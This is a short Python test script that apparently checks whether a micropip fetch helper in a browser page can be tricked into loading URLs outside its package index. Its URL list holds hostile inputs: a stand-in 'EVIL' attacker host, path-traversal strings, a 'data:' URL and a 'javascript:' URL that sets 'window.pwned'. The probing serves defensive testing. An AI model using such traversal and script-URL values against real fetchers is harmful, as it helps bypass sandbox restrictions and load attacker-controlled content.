# Asks the page, which fetches for micropip, for what is in no package index.
from peek import installing

for url in (
    EVIL + "/stolen",
    EVIL + "/simple/stolen/",
    SITE + "stolen",
    installing.ROOT + "stolen",
    installing.ROOT + "../stolen",
    installing.ROOT + "simple/../stolen/index.json",
    installing.ROOT + "simple/stolen/index.json",
    "data:text/plain,stolen",
    "javascript:window.pwned='stolen'",
    "//stolen",
    "stolen",
    "",
):
    if await attempt(url, lambda: installing.fetch(url)) is not None:
        print("reached:", url)
print("tried")
